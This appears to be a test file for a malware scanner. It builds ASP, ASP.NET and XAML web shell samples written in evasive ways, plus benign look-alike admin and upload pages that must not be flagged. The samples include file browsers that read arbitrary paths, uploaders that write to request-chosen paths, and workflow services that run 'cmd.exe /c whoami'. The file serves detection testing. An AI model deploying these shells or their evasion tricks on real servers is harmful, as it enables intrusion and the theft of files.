import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// Session 32: the classic ASP and ASP.NET rules of session 31 (file browsers and managers, the uploader writing
// where a form field says, the XAML service, the upload written to a path the request gives) were lists of
// written forms; its red teams (bench/redteam/README-s31.md, S31R-38 to -48 and the ASP and ASP.NET evasions
// among S31S-35 to -67) wrote the same shells otherwise. Each evasion again, harmless (a shell's shape over
// nothing of an attacker's), and look-alikes from real admin pages, download handlers, CMS uploads and
// document converters that must not be malicious.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);

/** Session 31's classic ASP file browser (held-out set X), its folder, listing and reading written otherwise. */
const aspBrowser = (head: string, read: string, body = '') => `<html><body>
<%
${head}
If p = "" Then
  p = "c:\\"
  t = "1"
End If
If t = "1" Then ShowFolder(p)
If t = "2" Then
  Set fso = Server.CreateObject("Scripting.FileSystemObject")
${read}
End If
Sub ShowFolder(dir)
  Set fso = CreateObject("Scripting.FileSystemObject")
  Set f = fso.GetFolder(dir)
  For Each d In f.SubFolders
    Response.Write("<a href='?t=1&p=" & Server.URLEncode(d.Path) & "'>" & d.Name & "</a><br>")
  Next
  For Each x In f.Files
    Response.Write("<a href='?t=2&p=" & Server.URLEncode(x.Path) & "'>" & x.Name & "</a><br>")
  Next
End Sub
${body}
%>
</body></html>
`;
const READ_ALL = `  Set ts = fso.OpenTextFile(p, 1)
  Response.Write("<pre>" & Server.HTMLEncode(ts.ReadAll) & "</pre>")`;

/** Session 31's ASP.NET drive browser (held-out set X): drives, a folder and a file the request names. */
const aspxBrowser = (drives: string, list: string, send: string, extra = '') => `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
${extra}
protected void Page_Load(object s, EventArgs e) {
  if (Request["get"] != null) { string f = ${send.startsWith('!') ? send.slice(1) : `Request["get"]; Response.ContentType = "application/octet-stream"; ${send}`} Response.End(); }
  string dir = ${list};
  if (dir == null) { ${drives} return; }
  foreach (DirectoryInfo d in new DirectoryInfo(dir).GetDirectories()) Response.Write("<a href='?dir=" + d.FullName + "'>" + d.Name + "</a><br>");
  foreach (FileInfo f in new DirectoryInfo(dir).GetFiles()) Response.Write("<a href='?get=" + f.FullName + "'>" + f.Name + "</a><br>");
}
</script>
`;
const LOGICAL = `foreach (string d in Environment.GetLogicalDrives()) Response.Write("<a href='?dir=" + d + "'>" + d + "</a> ");`;

/** Session 31's classic ASP uploader (held-out set X): the upload written where a form field says. */
const aspUploader = (write: string, field: string) => `<%
If Request.QueryString("go") = "1" Then
  raw = Request.BinaryRead(Request.TotalBytes)
  ' (a parser of the multipart body, as such pages carry, fills form("dest") and form("name") and body)
  Set form = ParseParts(raw)
  Set fso = Server.CreateObject("Scripting.FileSystemObject")
  ${write}
  For i = 1 To LenB(form("body"))
    out.Write Chr(AscB(MidB(form("body"), i, 1)))
  Next
  out.Close
End If
%>
<form action="?go=1" method="post" enctype="multipart/form-data">
<input type="file" name="f"><br>
Folder: ${field}<input type="submit">
</form>
`;
const CREATE = `Set out = fso.CreateTextFile(form("dest") & form("name"))`;

/** Session 31's XAML workflow service (held-out set X) starting a process, its names and call written otherwise. */
const xamlx = (open: string, reply: string, extra = '') => `${open}
 <p:Sequence>${extra}
  <Receive x:Name="r" CanCreateInstance="True" OperationName="Go" />
  <SendReply Request="{x:Reference r}">
   <SendMessageContent>
    <p:InArgument x:TypeArguments="x:String">${reply}</p:InArgument>
   </SendMessageContent>
  </SendReply>
 </p:Sequence>
</WorkflowService>
`;
const WF_OPEN = `<WorkflowService ConfigurationName="S" Name="S" xmlns="http://schemas.microsoft.com/netfx/2009/xaml/servicemodel" xmlns:p="http://schemas.microsoft.com/netfx/2009/xaml/activities" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml">`;

/** An ASP.NET upload page (S30C-E2's kind) writing the request's upload to the path the request gives, through `open`. */
const aspxUpload = (open: string, decl = '', lang = 'C#') => `<%@ Page Language="${lang}" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
${decl}
protected void Page_Load(object sender, EventArgs e) {
  if (Request.Files.Count == 0) return;
  using (var fs = ${open}) { Request.Files[0].InputStream.CopyTo(fs); }
  Response.Write("ok");
}
</script>
`;

// [which evasion, what, path, the file]
const SHELLS: [string, string, string, string][] = [
  ['a', 'the folder through a Param() helper returning Request(..)', '/www/a1.asp', aspBrowser(`Function Param(n)
  Param = Request(n)
End Function
p = Param("p")
t = Param("t")`, READ_ALL)],
  ['a', 'the file read line by line', '/www/a2.asp', aspBrowser(`p = Request("p")
t = Request("t")`, `  Set ts = fso.OpenTextFile(p, 1)
  Do While Not ts.AtEndOfStream
    Response.Write(Server.HTMLEncode(ts.ReadLine) & "<br>")
  Loop`)],
  ['a', 'the file sent through ADODB.Stream', '/www/a3.asp', aspBrowser(`p = Request("p")
t = Request("t")`, `  Set st = Server.CreateObject("ADODB.Stream")
  st.Type = 1
  st.Open
  st.LoadFromFile p
  Response.BinaryWrite st.Read
  st.Close`)],
  ['a', 'the path from the raw query string', '/www/a4.asp', aspBrowser(`q = Request.ServerVariables("QUERY_STRING")
t = Left(q, 1)
p = URLDecode(Mid(q, 3))`, READ_ALL, `Function URLDecode(s)
  URLDecode = Replace(Unescape(s), "+", " ")
End Function`)],
  ['b', 'the folder and file through Path.GetFullPath', '/www/b1.aspx', aspxBrowser(LOGICAL, 'Request["dir"] == null ? null : Path.GetFullPath(Request["dir"])', '!Path.GetFullPath(Request["get"]); Response.WriteFile(f);')],
  ['b', 'the file copied to the response stream', '/www/b2.aspx', aspxBrowser(LOGICAL, 'Request["dir"]', 'using (var fs = File.OpenRead(f)) fs.CopyTo(Response.OutputStream);')],
  ['b', 'the file read in a Stream.Read loop', '/www/b3.aspx', aspxBrowser(LOGICAL, 'Request["dir"]', 'using (Stream fs = new FileStream(f, FileMode.Open, FileAccess.Read)) { byte[] b = new byte[8192]; int n; while ((n = fs.Read(b, 0, b.Length)) > 0) Response.OutputStream.Write(b, 0, n); }')],
  ['b', 'the drives found by letter', '/www/b4.aspx', aspxBrowser(`for (char c = 'C'; c <= 'Z'; c++) { string d = c + ":\\\\"; if (Directory.Exists(d)) Response.Write("<a href='?dir=" + d + "'>" + d + "</a> "); }`, 'Request["dir"]', 'Response.WriteFile(f);')],
  ['b', 'the path an <input runat=server>\'s', '/www/b5.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  if (!IsPostBack) PathBox.Value = @"C:\\";
  foreach (string f in Directory.GetFiles(PathBox.Value)) List.InnerHtml += f + "<br>";
}
protected void Del_Click(object s, EventArgs e) { File.Delete(PathBox.Value); }
protected void Get_Click(object s, EventArgs e) { Response.WriteFile(PathBox.Value); Response.End(); }
</script>
<form runat="server"><input type="text" id="PathBox" runat="server" /><div id="List" runat="server"></div>
<asp:Button runat="server" Text="Delete" OnClick="Del_Click" /><asp:Button runat="server" Text="Get" OnClick="Get_Click" /></form>`],
  ['b', 'the path through an Arg() helper returning Request[..]', '/www/b6.aspx', aspxBrowser(LOGICAL, 'Arg("dir")', '!Arg("get"); Response.WriteFile(f);', 'string Arg(string n) { return Request[n]; }').replace(/Request\["get"\] != null/, 'Arg("get") != null')],
  ['c', 'the default folder the web root', '/www/c1.asp', aspUploader(CREATE, '<input type="text" name="dest" value="C:\\inetpub\\wwwroot\\">')],
  ['c', 'the default folder the site\'s own, from Server.MapPath', '/www/c2.asp', aspUploader('Set out = fso.CreateTextFile(Server.MapPath(form("dest")) & "\\" & form("name"))', '<input type="text" name="dest" value="<%=Server.MapPath("/")%>">')],
  ['c', 'the file opened for writing with OpenTextFile', '/www/c3.asp', aspUploader('Set out = fso.OpenTextFile(form("dest") & form("name"), 2, True)', '<input type="text" name="dest" value="C:\\">')],
  ['c', 'the drive written C:/', '/www/c4.asp', aspUploader(CREATE, '<input type="text" name="dest" value="C:/">')],
  ['d', 'the namespace in single quotes, the root prefixed', '/www/d1.xamlx', xamlx(`<sm:WorkflowService ConfigurationName='S' Name='S' xmlns:sm='http://schemas.microsoft.com/netfx/2009/xaml/servicemodel' xmlns:p='http://schemas.microsoft.com/netfx/2009/xaml/activities' xmlns:x='http://schemas.microsoft.com/winfx/2006/xaml'>`, '[System.Diagnostics.Process.Start("cmd.exe", "/c whoami").Id.ToString()]').replace('</WorkflowService>', '</sm:WorkflowService>')],
  ['d', 'the names\' dots written &#46;', '/www/d2.xamlx', xamlx(WF_OPEN, '[System&#46;Diagnostics&#46;Process&#46;Start(&quot;cmd&#46;exe&quot;, &quot;/c whoami&quot;)&#46;Id&#46;ToString()]')],
  ['d', 'VB\'s Interaction.Shell', '/www/d3.xamlx', xamlx(WF_OPEN, '[Microsoft.VisualBasic.Interaction.Shell("cmd.exe /c whoami", 0).ToString()]')],
  ['d', 'an InvokeMethod activity calling Process.Start', '/www/d4.xamlx', xamlx(WF_OPEN.replace('>', ' xmlns:sd="clr-namespace:System.Diagnostics;assembly=System">'), '["ok"]', `
  <p:InvokeMethod MethodName="Start" TargetType="sd:Process">
   <p:InArgument x:TypeArguments="x:String">cmd.exe</p:InArgument>
   <p:InArgument x:TypeArguments="x:String">/c whoami</p:InArgument>
  </p:InvokeMethod>`)],
  ['e', 'the mode by named arguments', '/www/e1.aspx', aspxUpload('new FileStream(path: Request["p"], mode: FileMode.Create)')],
  ['e', 'the arguments named out of order', '/www/e1b.aspx', aspxUpload('new FileStream(mode: FileMode.Create, path: Request["p"])')],
  ['e', 'Enum.Parse(typeof(FileMode), "Create")', '/www/e2.aspx', aspxUpload('new FileStream(Request["p"], (FileMode)Enum.Parse(typeof(FileMode), "Create"))')],
  ['e', '(FileMode)(2)', '/www/e3.aspx', aspxUpload('new FileStream(Request["p"], (FileMode)(2))')],
  ['e', '(FileMode)0x2', '/www/e4.aspx', aspxUpload('File.Open(Request["p"], (FileMode)0x2)')],
  ['e', 'an int variable cast', '/www/e5.aspx', aspxUpload('new FileStream(Request["p"], (FileMode)m)', 'int m = 2;')],
  ['e', 'a property', '/www/e6.aspx', aspxUpload('new FileStream(Request["p"], WriteMode)', 'static FileMode WriteMode { get { return FileMode.Create; } }')],
  ['e', 'the mode from the request', '/www/e7.aspx', aspxUpload('new FileStream(Request["p"], (FileMode)int.Parse(Request["m"]))')],
  ['e', 'FileInfo.Open(m)', '/www/e8.aspx', aspxUpload('new FileInfo(Request["p"]).Open(m)', 'static readonly FileMode m = FileMode.Create;')],
  ['e', 'FileInfo.Open through a variable', '/www/e8b.aspx', aspxUpload('fi.Open(FileMode.Create)').replace('using (var fs', 'var fi = new FileInfo(Request["p"]);\n  using (var fs')],
  ['e', 'default(FileMode) + 2', '/www/e9.aspx', aspxUpload('new FileStream(Request["p"], default(FileMode) + 2)')],
  ['e', 'VB\'s CType(2, FileMode)', '/www/e10.aspx', `<%@ Page Language="VB" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
  If Request.Files.Count = 0 Then Return
  Using fs As New FileStream(Request("p"), CType(2, FileMode))
    Request.Files(0).InputStream.CopyTo(fs)
  End Using
End Sub
</script>
`],
  ['e', 'the path with + "" appended', '/www/e11.aspx', aspxUpload('new FileStream(Request["p"] + "", FileMode.Create)')],
  ['e', 'a helper of the page given the path and the mode', '/www/e12.aspx', aspxUpload('OpenAt(Request["p"], FileMode.Create)', 'Stream OpenAt(string p, FileMode m) { return new FileStream(p, m); }')],
];

// [what, path, the file]
const BENIGN: [string, string, string][] = [
  ['a classic ASP download centre over a fixed folder, sent through ADODB.Stream, names read line by line', '/www/dl.asp', `<%
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set f = fso.GetFolder(Server.MapPath("/downloads"))
For Each x In f.Files
  Response.Write("<a href='?f=" & Server.URLEncode(x.Name) & "'>" & x.Name & "</a><br>")
Next
Set ts = fso.OpenTextFile(Server.MapPath("/downloads/index.txt"), 1)
Do While Not ts.AtEndOfStream
  Response.Write(Server.HTMLEncode(ts.ReadLine) & "<br>")
Loop
n = Request("f")
If n <> "" And InStr(n, "\\") = 0 And InStr(n, "/") = 0 Then
  Set st = Server.CreateObject("ADODB.Stream")
  st.Type = 1
  st.Open
  st.LoadFromFile Server.MapPath("/downloads/" & n)
  Response.BinaryWrite st.Read
End If
%>
`],
  ['a classic ASP gallery whose folder a Param() helper gives, held under the site\'s images', '/www/gallery.asp', `<%
Function Param(n)
  Param = Trim(Request(n))
End Function
album = Param("album")
If album = "" Or InStr(album, "..") > 0 Then album = "default"
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set f = fso.GetFolder(Server.MapPath("/images/" & album))
For Each x In f.Files
  Response.Write("<img src='/images/" & album & "/" & x.Name & "'>")
Next
%>
`],
  ['an ASP.NET backup page finding fixed drives by letter for their free space, listing its own folder', '/www/backup.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  if (!User.IsInRole("Administrators")) { Response.StatusCode = 403; return; }
  for (char c = 'C'; c <= 'Z'; c++) { var d = new DriveInfo(c + ":\\\\"); if (d.IsReady) Disks.Text += d.Name + " " + (d.AvailableFreeSpace >> 30) + " GB<br>"; }
  string dir = Server.MapPath("~/App_Data/Backups");
  foreach (string f in Directory.GetFiles(dir, "*.bak")) Files.Text += Path.GetFileName(f) + "<br>";
  if (Request["get"] != null) { using (var fs = File.OpenRead(Path.Combine(dir, Path.GetFileName(Request["get"])))) fs.CopyTo(Response.OutputStream); Response.End(); }
  if (Request["del"] != null) File.Delete(Path.Combine(dir, Path.GetFileName(Request["del"])));
}
</script>
<asp:Label ID="Disks" runat="server" /><asp:Label ID="Files" runat="server" />
`],
  ['an ASP.NET document search with an <input runat=server> box over a fixed folder', '/www/docs.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
string Root { get { return Server.MapPath("~/docs"); } }
protected void Page_Load(object s, EventArgs e) {
  foreach (string f in Directory.GetFiles(Root, "*" + Path.GetFileName(Search.Value) + "*.pdf")) List.InnerHtml += "<a href='?get=" + Server.UrlEncode(Path.GetFileName(f)) + "'>" + Path.GetFileName(f) + "</a><br>";
  if (Request["get"] != null) { Response.ContentType = "application/pdf"; Response.WriteFile(Path.Combine(Root, Path.GetFileName(Request["get"]))); Response.End(); }
  if (Request["del"] != null && User.IsInRole("editor")) File.Delete(Path.Combine(Root, Path.GetFileName(Request["del"])));
}
</script>
<form runat="server"><input type="text" id="Search" runat="server" /><div id="List" runat="server"></div></form>`],
  ['an ASP.NET media manager with an Arg() helper, its paths under the site', '/www/media2.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
string Arg(string n) { return Request[n] ?? ""; }
protected void Page_Load(object s, EventArgs e) {
  string folder = Server.MapPath("~/media/" + Path.GetFileName(Arg("album")));
  if (Arg("del") != "") File.Delete(Path.Combine(folder, Path.GetFileName(Arg("del"))));
  if (Request.Files.Count > 0) Request.Files[0].SaveAs(Path.Combine(folder, Guid.NewGuid() + ".jpg"));
  foreach (string f in Directory.GetFiles(folder, "*.jpg")) Response.Write("<img src='/media/" + Path.GetFileName(f) + "'>");
}
</script>`],
  ['an ASP.NET download handler copying a document to the response, beside uploads stored under GUIDs', '/www/doc.ashx', `<%@ WebHandler Language="C#" Class="Doc" %>
using System; using System.IO; using System.Web;
public class Doc : IHttpHandler {
  public bool IsReusable { get { return true; } }
  public void ProcessRequest(HttpContext context) {
    var Request = context.Request;
    if (Request.Files.Count > 0) {
      using (var w = new FileStream(context.Server.MapPath("~/App_Data/" + Guid.NewGuid() + ".bin"), FileMode.CreateNew)) Request.Files[0].InputStream.CopyTo(w);
      return;
    }
    using (var fs = new FileStream(path: context.Server.MapPath(Request["doc"]), mode: FileMode.Open, access: FileAccess.Read)) fs.CopyTo(context.Response.OutputStream);
  }
}
`],
  ['an ASP.NET report reader whose mode is a variable of (FileMode)3, a field of Open, a helper given FileAccess.Read', '/www/reports.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
static readonly FileMode ReadMode = FileMode.Open;
Stream OpenReport(string p, FileMode m) { return new FileStream(p, m, FileAccess.Read, FileShare.Read); }
protected void Page_Load(object sender, EventArgs e) {
  FileMode m = (FileMode)3;
  using (var a = new FileStream(Server.MapPath(Request["report"]), m)) { }
  using (var b = File.Open(Server.MapPath(Request["report"]), ReadMode)) { }
  using (var c = OpenReport(Server.MapPath(Request["report"]), FileMode.OpenOrCreate)) { }
  using (var d = new FileInfo(Server.MapPath(Request["report"])).Open(FileMode.Open)) { }
  if (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath("~/App_Data/attachments/" + Guid.NewGuid() + ".dat"));
}
</script>
`],
  ['an ASP.NET CMS upload written with FileMode.Create under a new name, a request path only read', '/www/cms.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
  if (Request.Files.Count > 0) {
    string name = Guid.NewGuid().ToString("N") + Path.GetExtension(Request.Files[0].FileName).ToLowerInvariant();
    using (var fs = new FileStream(Server.MapPath("~/uploads/" + name), mode: FileMode.Create)) Request.Files[0].InputStream.CopyTo(fs);
  }
  using (var r = File.OpenRead(Server.MapPath("~/uploads/" + Path.GetFileName(Request["img"])))) r.CopyTo(Response.OutputStream);
}
</script>
`],
  ['a VB.NET download page opening the request\'s path with CType(3, FileMode), uploads saved under GUIDs', '/www/vbdl.aspx', `<%@ Page Language="VB" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
  If Request.Files.Count > 0 Then Request.Files(0).SaveAs(Server.MapPath("~/App_Data/" & Guid.NewGuid().ToString() & ".dat"))
  Dim m As FileMode = CType(3, FileMode)
  Using fs As New FileStream(Server.MapPath(Request("doc")), m)
    fs.CopyTo(Response.OutputStream)
  End Using
End Sub
</script>
`],
  ['an ASP.NET download through a helper of the page whose every call opens with FileMode.Open', '/www/helper.aspx', aspxUpload('OpenAt(Server.MapPath(Request["f"]), FileMode.Open)', 'Stream OpenAt(string p, FileMode m) { return new FileStream(p, m); }').replace('Request.Files[0].InputStream.CopyTo(fs);', 'fs.CopyTo(Response.OutputStream); Request.Files[0].SaveAs(Server.MapPath("~/App_Data/" + Guid.NewGuid()));')],
  ['a classic ASP installer showing the site root C:\\inetpub\\wwwroot\\ beside a logo upload to a fixed path', '/www/setup.asp', `<%
If Request.ServerVariables("REQUEST_METHOD") = "POST" Then
  raw = Request.BinaryRead(Request.TotalBytes)
  Set fso = Server.CreateObject("Scripting.FileSystemObject")
  Set out = fso.CreateTextFile(Server.MapPath("/images/logo.png"), True)
  out.Write raw
  out.Close
End If
%>
<form method="post" enctype="multipart/form-data">
<input type="file" name="logo">
Site root: <input type="text" name="root" value="C:\\inetpub\\wwwroot\\" readonly><input type="submit">
</form>
`],
  ['a classic ASP guestbook appending with OpenTextFile to its own book, a data folder shown', '/www/book.asp', `<%
raw = Request.BinaryRead(Request.TotalBytes)
Set fso = Server.CreateObject("Scripting.FileSystemObject")
book = Server.MapPath("/data/book.txt")
Set out = fso.OpenTextFile(book, 8, True)
out.WriteLine raw
out.Close
%>
<form method="post" enctype="multipart/form-data"><input type="file" name="pic"><input type="text" name="dir" value="D:/data/"><input type="submit"></form>
`],
  ['a XAML workflow service converting documents through an InvokeMethod on its own job type', '/www/convert.xamlx', xamlx(WF_OPEN.replace('>', ' xmlns:local="clr-namespace:Docs;assembly=Docs">'), '["queued"]', `
  <p:InvokeMethod MethodName="Start" TargetType="local:ConvertJob">
   <p:InArgument x:TypeArguments="x:String">report.docx</p:InArgument>
  </p:InvokeMethod>
  <!-- the job runs soffice headless; cmd and PowerShell are not used -->`)],
  ['a XAML workflow with entities in its text that starts nothing', '/www/quote.xamlx', xamlx(WF_OPEN, '[&quot;Total: &quot; &amp; String&#46;Format(&quot;{0:N2}&quot;, 12&#46;5)]', '\n  <!-- opened from cmd.exe by the test script -->')],
];

describe('scan: session 32, the ASP and ASP.NET rules\' open evasions (reverted, open)', () => {
  // (open: the rules' widening that caught these was reverted for its false positives, red team S32A; the pages stay
  // as the next attempt's measure: bench/redteam/README-s32-asp.md)
  // (kept: the XAML file read with its character references decoded, scanner.ts)
  const KEPT = new Set(["the names' dots written &#46;"]);
  for (const [which, name, path, src] of SHELLS) {
    it(`malicious (${which}): ${name}`, KEPT.has(name) ? {} : { todo: 'open: reverted for red team S32A\'s false positives (README-s32-asp.md)' }, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  for (const [name, path, src] of BENIGN) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('ran every case', () => {
    assert.equal(SHELLS.length, 32);
    assert.equal(SHELLS.filter(([, name]) => KEPT.has(name)).length, 1);
    assert.equal(BENIGN.length, 14);
  });
});
